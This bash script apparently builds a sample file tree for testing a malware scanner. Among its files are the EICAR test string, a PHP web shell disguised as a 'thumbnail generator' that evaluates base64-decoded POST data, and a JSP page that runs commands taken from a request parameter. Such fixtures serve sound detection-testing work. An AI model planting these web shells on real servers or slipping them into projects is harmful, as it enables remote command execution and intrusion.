#!/usr/bin/env bash
# Builds a small sample tree for a first scan: the EICAR test file, a PHP web shell under a web
# root, a JSP dropper, and a few harmless files. The EICAR string is assembled at run time so the
# repository itself holds no detectable test file.
set -euo pipefail
dest="${1:?usage: make-sample-tree.sh DEST}"
mkdir -p "$dest/srv/www/uploads" "$dest/home/alice/Downloads" "$dest/opt/tomcat/webapps/ROOT" "$dest/etc"
# EICAR, split so no file in the repo matches it.
printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-' 'ANTIVIRUS-TEST-FILE!$H+H*' \
  > "$dest/home/alice/Downloads/eicar.com"
cat > "$dest/srv/www/uploads/image.php" <<'PHP'
<?php
// "thumbnail generator"
@eval(base64_decode($_POST['img']));
?>
PHP
cat > "$dest/opt/tomcat/webapps/ROOT/status.jsp" <<'JSP'
<%@ page import="java.io.*" %>
<% Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); %>
JSP
cat > "$dest/srv/www/index.html" <<'HTML'
<!doctype html><title>Welcome</title><p>It works.</p>
HTML
printf 'nameserver 127.0.0.53\n' > "$dest/etc/resolv.conf"
printf 'Just some notes.\n' > "$dest/home/alice/notes.txt"
echo "sample tree ready: $dest"
